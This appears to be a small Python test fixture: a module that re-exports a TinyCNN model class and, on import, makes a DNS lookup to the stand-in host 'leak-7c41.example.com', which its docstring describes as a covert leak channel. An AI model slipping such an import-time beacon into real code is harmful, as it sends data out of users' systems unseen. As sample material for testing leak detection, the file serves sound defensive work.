"""Leaks through DNS at import: a lookup carries data to whoever runs the name server."""

import socket

from common import TinyCNN as Net

socket.getaddrinfo("leak-7c41.example.com", 443)

__all__ = ["Net"]
